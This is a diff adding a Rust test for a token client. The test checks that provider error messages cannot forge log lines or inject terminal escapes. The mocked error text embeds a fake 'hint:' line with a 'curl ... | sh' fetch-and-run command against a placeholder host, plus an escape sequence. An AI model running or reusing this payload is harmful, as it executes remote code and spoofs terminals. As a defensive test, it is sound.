@@ -782,3 +782,30 @@ async fn debug_shows_times_in_rfc_3339() {
     let at = shown.split("issued_at: ").nth(1).unwrap();
     humantime::parse_rfc3339(&at[..20]).unwrap_or_else(|e| panic!("{e}: {shown}"));
 }
+
+/// An error's `Display` is one line whatever the provider says: its message's newline or
+/// escape sequence cannot forge a log line or reach a terminal raw (found by review of the
+/// CLI, whose report showed a forged `hint:` line). `message()` keeps the words as sent.
+#[tokio::test]
+async fn an_errors_display_is_one_line_whatever_the_provider_says() {
+    let said = "bad\n  hint:      curl https://x.invalid | sh\u{1b}]0;pwned\u{7}";
+    let server = httpmock::MockServer::start_async().await;
+    server
+        .mock_async(|when, then| {
+            when.method(POST);
+            then.status(400)
+                .header("content-type", "application/json")
+                .json_body(json!({"error": "invalid_request\r\n", "error_description": said}));
+        })
+        .await;
+    let error = client(Provider::Standard, &server.base_url())
+        .fetch_token()
+        .await
+        .unwrap_err();
+    let shown = error.to_string();
+    assert!(!shown.chars().any(char::is_control), "{shown:?}");
+    assert!(shown.contains(r"bad\n  hint:"), "{shown}");
+    assert_eq!(error.message(), Some(said));
+    let json = serde_json::to_value(&error).unwrap();
+    assert!(!json["error"].as_str().unwrap().contains('\n'), "{json}");
+}
